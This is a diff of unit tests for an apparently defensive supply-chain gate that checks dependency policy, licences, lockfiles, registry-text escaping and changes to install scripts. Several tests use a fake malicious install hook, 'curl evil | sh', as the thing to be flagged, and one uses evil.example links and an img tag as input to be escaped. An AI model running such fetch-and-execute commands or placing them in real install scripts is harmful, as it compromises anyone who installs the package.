@@ -1,7 +1,10 @@
 /** The policy's JSON Schema as committed, and the rules `check` evaluates, on trees built here. */
 import fs from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { evaluate, hasExpired, parsePackageSpec } from '../../gate/evaluate.js';
+import { diffTrees } from '../../gate/diff.js';
+import { evaluate, hasExpired, licenceOk, parsePackageSpec } from '../../gate/evaluate.js';
+import { LockfileLines } from '../../gate/lockfile-lines.js';
+import { md } from '../../gate/markdown.js';
 import { parsePolicy, policyJsonSchema } from '../../gate/policy.js';
 import type { Tree, TreeVersion } from '../../gate/tree.js';
 
@@ -163,5 +166,137 @@ rules:
     );
     expect(outOfRange?.passed).toBe(false);
     expect(outOfRange?.unused.map((e) => e.package)).toEqual(['pkg:npm/@acme/core@^2.0.0']);
+  });
+
+  it('report a flag an allow-list passes over: an allowed script does not hide a new one', () => {
+    const flag = {
+      id: 'install-script-added',
+      severity: 'high' as const,
+      evidence: 'adds preinstall at install, absent in 1.0.0 (preinstall: curl evil | sh)',
+      since: '',
+    };
+    const t = tree(version('esbuild', { installScripts: ['preinstall'], flags: [flag] }));
+    const policy = 'version: 1\nrules: {flags: {}, installScripts: {allow: [esbuild]}}\n';
+    expect(rulesOf(policy, t)).toEqual([
+      'flag esbuild: high install-script-added: adds preinstall at install, absent in 1.0.0 (preinstall: curl evil | sh)',
+    ]);
+  });
+
+  it('read licence expressions: AND binds tighter than OR, WITH judged as its licence', () => {
+    const ok = (id: string): boolean => id !== 'GPL-2.0-only';
+    expect(licenceOk('GPL-2.0-only WITH Classpath-exception-2.0', ok)).toBe(false);
+    expect(licenceOk('(MIT OR GPL-2.0-only)', ok)).toBe(true);
+    expect(licenceOk('MIT AND GPL-2.0-only', ok)).toBe(false);
+    expect(licenceOk('MIT AND Apache-2.0 OR GPL-2.0-only', ok)).toBe(true);
+  });
+
+  it('compare PyPI names as PEP 503 normalises them, and prefer an exception that still holds', () => {
+    expect(parsePackageSpec('pkg:pypi/Typing_Extensions@4.0.0?x=1')).toEqual({
+      ecosystem: 'pypi',
+      name: 'typing-extensions',
+      range: '4.0.0',
+    });
+    const py = {
+      ...version('typing_extensions', { trust: 0.1 }),
+      ecosystem: 'pypi',
+      key: 'pkg:pypi/typing-extensions@1.0.0',
+      pkg: 'pkg:pypi/typing-extensions',
+    };
+    const entry = (expires: string): string =>
+      `  - {package: pkg:pypi/typing-extensions, rule: trust, reason: r, owner: o, expires: ${expires}}\n`;
+    const policy = `version: 1\nrules: {trust: {min: 0.2}}\nexceptions:\n${entry('2020-01-01')}${entry('2030-01-01')}`;
+    const [result] = evaluate(
+      [tree(py)],
+      parsePolicy(policy, 'p'),
+      new Date('2026-12-01T00:00:00Z'),
+    );
+    expect(result?.passed).toBe(true);
+    expect(result?.findings[0]?.accepted?.expires).toBe('2030-01-01');
+    expect(result?.unused).toEqual([]);
+  });
+});
+
+describe('where a package is in a lockfile', () => {
+  it("finds npm's entry by its own version, not the next entry's", () => {
+    const lock = [
+      '{',
+      '  "packages": {',
+      '    "node_modules/a/node_modules/b": {',
+      '      "version": "2.0.0"',
+      '    },',
+      '    "node_modules/b": {',
+      '      "version": "1.0.0"',
+      '    }',
+      '  }',
+      '}',
+    ].join('\n');
+    const lines = new LockfileLines(lock);
+    expect(lines.find('b', '1.0.0')).toBe(6);
+    expect(lines.find('b', '2.0.0')).toBe(3);
+  });
+
+  it('finds pnpm and yarn entries, scoped names included', () => {
+    const pnpm = new LockfileLines(
+      "packages:\n\n  /left-pad@1.3.0:\n    resolution: {}\n  '@babel/core@7.24.0':\n",
+    );
+    expect(pnpm.find('left-pad', '1.3.0')).toBe(3);
+    expect(pnpm.find('@babel/core', '7.24.0')).toBe(5);
+    const yarn = new LockfileLines(
+      '# yarn\n\n"@babel/core@^7.0.0":\n  version "7.24.0"\n\nleft-pad@^1.0.0:\n  version "1.3.0"\n',
+    );
+    expect(yarn.find('@babel/core', '7.24.0')).toBe(3);
+    expect(yarn.find('left-pad', '1.3.0')).toBe(6);
+  });
+});
+
+describe('Markdown from registry text', () => {
+  it('is text: no markup, no mention, no link', () => {
+    const out = md('<img src=x> **bold** [x](https://evil.example) @octocat | www.evil.example');
+    for (const escaped of [
+      '\\<img',
+      '\\*\\*bold',
+      '\\[x\\]',
+      'https:\u2060//',
+      '@\u2060octocat',
+      '\\|',
+      'www\u2060.',
+    ])
+      expect(out).toContain(escaped);
+    expect(out.replace(/[\\\u2060]/g, '')).toBe(
+      '<img src=x> **bold** [x](https://evil.example) @octocat | www.evil.example',
+    );
+  });
+});
+
+describe('the diff of two trees', () => {
+  it('names a new script body under an old name, and tells a version change from versions added', () => {
+    const base = tree(
+      version('esbuild', {
+        installScripts: ['postinstall'],
+        installScriptText: ['postinstall: node install.js'],
+      }),
+      version('two'),
+    );
+    const changed = {
+      ...version('esbuild', {
+        installScripts: ['postinstall'],
+        installScriptText: ['postinstall: curl evil | sh'],
+      }),
+      key: 'pkg:npm/esbuild@1.0.1',
+      version: '1.0.1',
+    };
+    const second = { ...version('two'), key: 'pkg:npm/two@2.0.0', version: '2.0.0' };
+    const head = tree(changed, version('two'), second);
+    const diff = diffTrees(base, head);
+    expect(diff.installScripts).toEqual([
+      {
+        key: 'pkg:npm/esbuild@1.0.1',
+        scripts: ['postinstall'],
+        text: ['postinstall: curl evil | sh'],
+      },
+    ]);
+    expect(diff.changed).toEqual([{ name: 'esbuild', from: '1.0.0', to: '1.0.1', jump: 'patch' }]);
+    expect(diff.added).toEqual(['pkg:npm/two@2.0.0']);
+    expect(diff.removed).toEqual([]);
   });
 });
